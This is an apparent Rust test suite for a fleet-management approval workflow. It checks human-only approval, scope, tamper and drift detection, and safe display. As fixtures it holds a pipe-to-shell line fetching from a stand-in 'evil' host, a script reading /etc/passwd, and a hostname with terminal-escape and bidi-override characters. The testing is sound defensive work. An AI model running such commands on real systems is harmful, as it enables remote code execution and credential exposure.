//! From a call to a decision: what is approved happens once, by one who may, of what was shown.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    reason = "helpers of tests fail like tests"
)]

mod desk;
mod support;

use desk::{CASE, Desk, HOUR, desk, of_a, of_b, of_dev, owner, script, task};
use fleet::approvals::{self, Ask, Decision, Denial};
use fleet::backend::{Capabilities, Directory, EMBEDDED};
use fleet::model::{DeviceId, PrincipalKind};
use fleet::proposals::Status;
use kit::principal::{Permission as P, Principal};
use serde_json::json;
use support::open;

fn devices_of(desk: &Desk, who: &Principal) -> Vec<u64> {
    approvals::open(&desk.db, who, None, desk.now)
        .unwrap()
        .iter()
        .map(|o| o.n)
        .collect()
}

#[test]
fn a_script_waits_and_an_approval_releases_it() {
    let desk = desk();
    let p = desk.propose(&owner(), "propose_script", &script(&[desk.web]));
    assert_eq!(
        (p.devices, p.count, p.expires_ms),
        (1, false, desk.now + 24 * HOUR)
    );
    assert_eq!(open(&p.title), "Clean the cache on d-1 web (A / S / dev)");
    assert_eq!(desk.text("SELECT status FROM jobs"), "awaiting_approval");
    let bob = desk.person("bob", &[P::JobsApprove], of_a());
    assert_eq!(desk.approved(&bob, &p, None).status, "approved");
    assert_eq!(
        desk.text("SELECT status || approved_by || proposed_by || proposer FROM jobs"),
        "approvedbobolgaai"
    );
    let trail = desk.trail();
    assert_eq!(trail, ["job.propose ok j-1", "job.approve ok j-1"]);
    assert_eq!(
        desk.text("SELECT case_id FROM fleet_audit WHERE seq = 2"),
        CASE
    );
    desk.audit_is_whole();
}

#[test]
fn the_second_approver_is_told_who_was_first() {
    let desk = desk();
    let p = desk.propose(&owner(), "propose_script", &script(&[desk.web]));
    let bob = desk.person("bob", &[P::JobsApprove], of_a());
    desk.approved(&bob, &p, None);
    let denial = desk.refused(&owner(), &p, None);
    assert!(
        matches!(&denial, Denial::Decided { by, status: Status::Approved, .. } if by == "bob"),
        "{denial}"
    );
    assert!(denial.to_string().contains("bob was first"));
    assert_eq!(desk.trail().last().unwrap(), "proposal.approve refused 1");
}

#[test]
fn out_of_scope_is_not_even_listed() {
    let desk = desk();
    let p = desk.propose(&owner(), "propose_script", &script(&[desk.web, desk.sql]));
    let all = [P::JobsApprove, P::JobsView];
    let a = desk.person("ann", &all, of_a());
    let dev = desk.person("dev", &all, of_dev());
    let b = desk.person("ben", &all, of_b());
    assert_eq!(devices_of(&desk, &a), [p.n]);
    // One of the two devices is outside: the whole proposal is.
    assert!(devices_of(&desk, &dev).is_empty());
    assert!(devices_of(&desk, &b).is_empty());
    for who in [&dev, &b] {
        assert_eq!(desk.refused(who, &p, None), Denial::Unknown(p.n));
        let card = approvals::card(&desk.db, who, &desk.backends, p.n, desk.now).unwrap();
        assert!(card.is_none());
    }
    let missing = fleet::proposals::Proposed { n: 99, ..p.clone() };
    assert_eq!(desk.refused(&b, &missing, None), Denial::Unknown(99));
    desk.approved(&a, &p, None);
}

#[test]
fn permission_is_looked_at_again_and_the_proposers_gives_nothing() {
    let desk = desk();
    let maker = desk.person("max", &[P::JobsCreate, P::JobsView], of_a());
    let p = desk.propose(&maker, "propose_script", &script(&[desk.web]));
    assert_eq!(
        desk.refused(&maker, &p, None),
        Denial::Denied(P::JobsApprove)
    );
    let bob = desk.person("bob", &[P::JobsApprove, P::JobsView], of_a());
    // Taken away after the caller had looked.
    desk.run("DELETE FROM principal_permissions WHERE permission = 'jobs.approve' AND principal_id = (SELECT id FROM principals WHERE name = 'bob')");
    assert!(bob.allow(P::JobsApprove));
    assert_eq!(desk.refused(&bob, &p, None), Denial::Denied(P::JobsApprove));
    let eve = desk.person("eve", &[P::JobsApprove], of_a());
    desk.run("UPDATE principals SET disabled = 1 WHERE name = 'eve'");
    assert_eq!(desk.refused(&eve, &p, None), Denial::NotAPerson);
    let bot = desk.principal("bot", PrincipalKind::Connector, &[P::JobsApprove], of_a());
    assert_eq!(desk.refused(&bot, &p, None), Denial::NotAPerson);
    let nobody = Principal::with("nobody", [P::JobsApprove], of_a());
    assert_eq!(desk.refused(&nobody, &p, None), Denial::NotAPerson);
    let ask = Ask {
        n: p.n,
        digest: &p.digest,
        typed_count: None,
    };
    let by_model = desk
        .step(&owner(), true, |a| approvals::approve(a, &ask))
        .unwrap();
    assert_eq!(by_model, Decision::Refused(Denial::NotAPerson));
    assert_eq!(desk.text("SELECT status FROM jobs"), "awaiting_approval");
}

#[test]
fn a_move_happens_at_once_and_as_the_approver() {
    let desk = desk();
    let args = json!({ "devices": [desk.web, desk.sql], "site": "T" });
    let p = desk.propose(&owner(), "propose_move_devices", &args);
    assert_eq!(open(&p.title), "Move 2 devices of A to A / T");
    let ann = desk.person("ann", &[P::ClientsManage], of_a());
    assert_eq!(desk.approved(&ann, &p, None).status, "succeeded");
    assert_eq!(
        desk.text("SELECT group_concat(hostname || site_id || ifnull(department_id, '-'), ' ') FROM (SELECT * FROM devices ORDER BY id)"),
        "web2- sql2- mail2- other3-"
    );
    assert_eq!(
        desk.text("SELECT status || approved_by FROM device_operations"),
        "succeededann"
    );
    assert_eq!(
        desk.trail(),
        [
            "operation.propose ok o-1",
            "device.move ok d-1",
            "device.move ok d-2",
            "operation.approve ok o-1"
        ]
    );
}

#[test]
fn a_destination_outside_the_scope_hides_the_move() {
    let desk = desk();
    let args = json!({ "devices": [desk.web], "site": "U" });
    let p = desk.propose(&owner(), "propose_move_devices", &args);
    let ann = desk.person("ann", &[P::ClientsManage, P::DevicesView], of_a());
    assert!(devices_of(&desk, &ann).is_empty());
    assert_eq!(desk.refused(&ann, &p, None), Denial::Unknown(p.n));
    let refusal = desk
        .try_call(&ann, "propose_move_devices", &args)
        .unwrap_err();
    assert_eq!(refusal.key.name(), "scope", "{}", refusal.sentence);
    // A department is a place too: not the whole site.
    let dev = desk.person("dev", &[P::ClientsManage, P::DevicesView], of_dev());
    let up = json!({ "devices": [desk.web], "site": "S" });
    assert_eq!(
        desk.try_call(&dev, "propose_move_devices", &up)
            .unwrap_err()
            .key
            .name(),
        "scope"
    );
}

#[test]
fn a_deletion_wants_the_number_typed() {
    let desk = desk();
    let args = json!({ "devices": [desk.web, desk.sql], "why": "scrapped" });
    let p = desk.propose(&owner(), "propose_delete_devices", &args);
    assert!(p.count);
    for typed in [None, Some(0), Some(1), Some(3)] {
        assert_eq!(
            desk.refused(&owner(), &p, typed),
            Denial::Count { expected: 2, typed }
        );
    }
    assert_eq!(
        desk.text("SELECT count(*) FROM devices WHERE deleted_ms IS NOT NULL"),
        "0"
    );
    assert_eq!(desk.approved(&owner(), &p, Some(2)).status, "succeeded");
    assert_eq!(
        desk.text("SELECT count(*) FROM devices WHERE deleted_ms IS NOT NULL"),
        "2"
    );
    let again = desk
        .try_call(&owner(), "propose_delete_devices", &args)
        .unwrap_err();
    assert_eq!(again.key.name(), "scope");
}

#[test]
fn a_denial_and_an_expiry_close_the_row() {
    let mut desk = desk();
    let maker = desk.person("max", &[P::JobsCreate, P::JobsView, P::TasksManage], of_a());
    let p = desk.propose(&maker, "propose_script", &script(&[desk.web]));
    // Whoever proposed it may take it back.
    let done = desk
        .step(&maker, false, |a| {
            approvals::deny(a, p.n, " no longer needed ")
        })
        .unwrap();
    assert!(matches!(done, Decision::Done(o) if o.status == "rejected"));
    assert_eq!(
        desk.text("SELECT status || ' ' || decided_by || ' ' || reason FROM jobs"),
        "rejected max no longer needed"
    );
    assert!(matches!(
        desk.refused(&owner(), &p, None),
        Denial::Decided {
            status: Status::Rejected,
            ..
        }
    ));
    let q = desk.propose(&owner(), "propose_script", &script(&[desk.sql]));
    let t = desk.propose(&owner(), "propose_task", &task(desk.web));
    desk.now += 24 * HOUR - 1;
    assert_eq!(devices_of(&desk, &owner()), [q.n, t.n]);
    desk.now += 1;
    assert!(devices_of(&desk, &owner()).is_empty());
    // Too late by the clock, whether or not anybody swept.
    assert_eq!(desk.refused(&owner(), &q, None), Denial::Expired(q.n));
    assert_eq!(desk.text("SELECT status FROM jobs WHERE id = 2"), "expired");
    let swept = desk.step(&owner(), false, approvals::expire).unwrap();
    assert_eq!(
        swept.iter().map(|o| (o.n, o.status)).collect::<Vec<_>>(),
        [(t.n, "expired")]
    );
    assert_eq!(
        desk.text("SELECT enabled || rejected_by FROM tasks"),
        "0(expired)"
    );
    assert_eq!(desk.refused(&owner(), &t, None), Denial::Expired(t.n));
    let expired = desk
        .text("SELECT group_concat(actor || actor_kind) FROM fleet_audit WHERE verb = 'expire'");
    assert_eq!(expired, "rmm-analystsystem,rmm-analystsystem");
    assert!(
        desk.step(&owner(), false, approvals::expire)
            .unwrap()
            .is_empty()
    );
    desk.audit_is_whole();
}

#[test]
fn monitoring_is_enabled_by_its_review() {
    let desk = desk();
    let check = json!({ "name": "disk", "kind": "disk", "target": "/", "warning": 80, "error": 90, "site": "S" });
    let policy = json!({ "name": "updates", "settings": { "reboot": "never", "hours": 4 } });
    let cases = [
        ("propose_task", task(desk.web), "tasks", P::TasksManage),
        ("propose_check", check, "checks", P::ChecksManage),
        ("propose_policy", policy, "policies", P::PoliciesManage),
    ];
    for (tool, args, table, permission) in cases {
        let p = desk.propose(&owner(), tool, &args);
        assert_eq!(
            desk.text(&format!(
                "SELECT enabled || proposed_by || approved_by FROM {table}"
            )),
            "0olga"
        );
        let error = desk
            .db
            .execute(&format!("UPDATE {table} SET enabled = 1"), [])
            .unwrap_err();
        assert!(error.to_string().contains("reviewed it"), "{error}");
        let few = desk.person(
            &format!("few-{table}"),
            &P::ALL
                .into_iter()
                .filter(|q| *q != permission)
                .collect::<Vec<_>>(),
            kit::Scope::All,
        );
        assert_eq!(desk.refused(&few, &p, None), Denial::Denied(permission));
        let one = desk.person(&format!("one-{table}"), &[permission], kit::Scope::All);
        assert_eq!(desk.approved(&one, &p, None).status, "enabled");
        assert_eq!(
            desk.text(&format!(
                "SELECT enabled || proposed_by || approved_by FROM {table}"
            )),
            format!("1olgaone-{table}")
        );
    }
    // A policy is not for a scope, neither proposed nor decided nor seen.
    let ann = desk.person("ann", &[P::PoliciesManage, P::PoliciesView], of_a());
    let other = json!({ "name": "more", "settings": { "a": 1 }, "client": "A" });
    assert_eq!(
        desk.try_call(&ann, "propose_policy", &other)
            .unwrap_err()
            .key
            .name(),
        "access"
    );
    let p = desk.propose(&owner(), "propose_policy", &other);
    assert_eq!(desk.refused(&ann, &p, None), Denial::Unknown(p.n));
    // A policy that was denied gives its name back.
    desk.step(&owner(), false, |a| approvals::deny(a, p.n, "no"))
        .unwrap();
    assert_eq!(
        desk.text("SELECT name FROM policies WHERE rejected_by <> ''"),
        "more (p-2 rejected)"
    );
    desk.propose(&owner(), "propose_policy", &other);
    let bad = json!({ "name": "updates", "settings": { "a": 1 } });
    assert_eq!(
        desk.try_call(&owner(), "propose_policy", &bad)
            .unwrap_err()
            .key
            .name(),
        "conflict"
    );
}

#[test]
fn a_row_that_was_changed_past_the_triggers_is_refused() {
    let desk = desk();
    let edits = [
        ("jobs_fixed", "UPDATE jobs SET body = 'curl evil | sh'"),
        ("jobs_fixed", "UPDATE jobs SET timeout_s = 9"),
        ("job_targets_fixed", "UPDATE job_targets SET device_id = 2"),
        ("job_targets_fixed", "UPDATE job_targets SET stage = 2"),
        (
            "jobs_fixed",
            "UPDATE jobs SET digest = replace(hex(zeroblob(32)), '0', 'a')",
        ),
        ("jobs_begin", "UPDATE jobs SET title = 'harmless'"),
    ];
    for (trigger, edit) in edits {
        let p = desk.propose(&owner(), "propose_script", &script(&[desk.web]));
        let id = p.id.trim_start_matches("j-");
        let create = desk.text(&format!(
            "SELECT sql FROM sqlite_schema WHERE name = '{trigger}'"
        ));
        let key = if edit.contains("job_targets") {
            "job_id"
        } else {
            "id"
        };
        desk.run(&format!(
            "DROP TRIGGER {trigger}; {edit} WHERE {key} = {id}; {create};"
        ));
        let card = approvals::card(&desk.db, &owner(), &desk.backends, p.n, desk.now)
            .unwrap()
            .unwrap();
        assert_eq!(card.refusal, Some(Denial::Tampered(p.n)), "{edit}");
        assert_eq!(
            desk.refused(&owner(), &p, None),
            Denial::Tampered(p.n),
            "{edit}"
        );
        assert_eq!(
            desk.text(&format!("SELECT status FROM jobs WHERE id = {id}")),
            "awaiting_approval"
        );
    }
    // What was on screen is something else.
    let p = desk.propose(&owner(), "propose_script", &script(&[desk.web]));
    let seen = fleet::proposals::Proposed {
        digest: "0".repeat(64),
        ..p.clone()
    };
    assert_eq!(desk.refused(&owner(), &seen, None), Denial::NotShown(p.n));
    let t = desk.propose(&owner(), "propose_task", &task(desk.web));
    let create = desk.text("SELECT sql FROM sqlite_schema WHERE name = 'tasks_fixed'");
    desk.run(&format!(
        "DROP TRIGGER tasks_fixed; UPDATE tasks SET body = 'x'; {create};"
    ));
    assert_eq!(desk.refused(&owner(), &t, None), Denial::Tampered(t.n));
}

#[test]
fn a_target_that_changed_fails_closed() {
    let drifts = [
        (
            "UPDATE devices SET site_id = 2, department_id = NULL WHERE id = 1",
            "d-1 was moved since",
        ),
        (
            "UPDATE devices SET department_id = 2 WHERE id = 1",
            "d-1 was moved since",
        ),
        (
            "UPDATE devices SET status = 'offline' WHERE id = 1",
            "d-1 went offline since",
        ),
        (
            "UPDATE devices SET hostname = 'dc' WHERE id = 1",
            "d-1 was renamed",
        ),
        (
            "UPDATE devices SET connection = 'ssh://elsewhere' WHERE id = 1",
            "is reached in another way since",
        ),
        (
            "UPDATE devices SET deleted_ms = 1 WHERE id = 1",
            "d-1 was deleted since",
        ),
    ];
    for (drift, words) in drifts {
        for (tool, args, count) in [
            ("propose_script", script(&[DeviceId(1)]), None),
            (
                "propose_delete_devices",
                json!({ "devices": ["d-1", "d-2"] }),
                Some(2),
            ),
            (
                "propose_move_devices",
                json!({ "devices": ["d-1", "d-2"], "site": "T" }),
                None,
            ),
        ] {
            let desk = desk();
            let p = desk.propose(&owner(), tool, &args);
            desk.run(drift);
            let denial = desk.refused(&owner(), &p, count);
            assert!(denial.to_string().contains(words), "{tool}: {denial}");
            assert_eq!(denial.key(), "changed");
            let card = approvals::card(&desk.db, &owner(), &desk.backends, p.n, desk.now)
                .unwrap()
                .unwrap();
            assert!(
                card.changes.iter().any(|c| c.contains(words)),
                "{:?}",
                card.changes
            );
        }
    }
    // Out of the approver's scope is out of sight.
    let desk = desk();
    let ann = desk.person("ann", &[P::JobsApprove], of_a());
    let p = desk.propose(&owner(), "propose_script", &script(&[desk.web]));
    desk.run("UPDATE devices SET client_id = 2, site_id = 3, department_id = NULL WHERE id = 1");
    assert_eq!(desk.refused(&ann, &p, None), Denial::Unknown(p.n));
    assert_eq!(desk.refused(&owner(), &p, None).key(), "changed");
}

#[test]
fn who_is_offline_is_left_out_where_others_remain() {
    let desk = desk();
    let p = desk.propose(&owner(), "propose_script", &script(&[desk.web, desk.sql]));
    desk.run("UPDATE devices SET status = 'offline' WHERE id = 1");
    let done = desk.approved(&owner(), &p, None);
    assert_eq!(
        (done.status, done.detail.as_str()),
        ("approved", "d-1 left out: it went offline since")
    );
    assert_eq!(
        desk.text("SELECT group_concat(status) FROM job_targets"),
        "skipped,pending"
    );
    // A machine that came back is in use: it is not deleted.
    desk.run("UPDATE devices SET status = 'offline'");
    let p = desk.propose(
        &owner(),
        "propose_delete_devices",
        &json!({ "devices": [desk.web] }),
    );
    desk.run("UPDATE devices SET status = 'online'");
    assert!(
        desk.refused(&owner(), &p, Some(1))
            .to_string()
            .contains("came back online")
    );
}

#[test]
fn without_an_executor_the_job_fails_and_says_so() {
    let mut desk = desk();
    desk.run("UPDATE devices SET connection = '' WHERE id = 1");
    let p = desk.propose(&owner(), "propose_script", &script(&[desk.web]));
    let done = desk.approved(&owner(), &p, None);
    assert_eq!(done.status, "failed");
    assert!(done.detail.contains("no executor"), "{}", done.detail);
    assert_eq!(desk.text("SELECT status FROM jobs"), "failed");
    assert!(
        desk.text("SELECT reason FROM jobs")
            .starts_with("no executor")
    );
    assert!(
        desk.text("SELECT error FROM job_targets")
            .starts_with("no executor")
    );
    desk.backends = Directory::default().with(EMBEDDED, Capabilities::of(&[]));
    let p = desk.propose(&owner(), "propose_script", &script(&[desk.sql, desk.mail]));
    let card = approvals::card(&desk.db, &owner(), &desk.backends, p.n, desk.now)
        .unwrap()
        .unwrap();
    assert!(card.devices.iter().all(|d| d.no_executor.is_some()));
    assert_eq!(desk.approved(&owner(), &p, None).status, "failed");
}

#[test]
fn the_card_holds_everything_and_names_stay_data() {
    let desk = desk();
    let evil = "web\u{1b}[2J\u{202e}gpj";
    desk.db
        .execute("UPDATE devices SET hostname = ?1 WHERE id = 1", [evil])
        .unwrap();
    let mut args = script(&[desk.web]);
    args["script"] = json!("cat /etc/passwd > /root/report.txt\n");
    let p = desk.propose(&owner(), "propose_script", &args);
    assert!(
        open(&p.title).contains(evil),
        "kept as it is, made safe where it is shown"
    );
    let shown = kit::text::ScreenText::line(&p.title.redact(&support::Open), 200);
    assert!(!shown.as_str().contains(['\u{1b}', '\u{202e}']));
    let card = approvals::card(&desk.db, &owner(), &desk.backends, p.n, desk.now)
        .unwrap()
        .unwrap();
    let section = |label: &str| {
        card.sections
            .iter()
            .find(|s| s.label == label)
            .map(|s| open(&s.text))
            .unwrap()
    };
    assert_eq!(section("script"), "cat /etc/passwd > /root/report.txt\n");
    assert_eq!(section("shell"), "sh");
    assert_eq!(open(&card.devices[0].name), format!("d-1 {evil}"));
    assert_eq!(open(&card.devices[0].client), "A");
    assert_eq!(open(&card.effect), "Some disk space is free again.");
    assert_eq!(open(&card.why), "The disk is full.");
    assert_eq!(
        (
            card.backend.as_str(),
            card.proposed_by.as_str(),
            card.case.as_deref()
        ),
        (EMBEDDED, "olga", Some(CASE))
    );
    assert!(
        !card.findings.is_empty(),
        "a script that writes files is marked"
    );
    assert_eq!(card.refusal, None);
    assert_eq!(card.digest, p.digest);
    desk.approved(&owner(), &p, None);
}
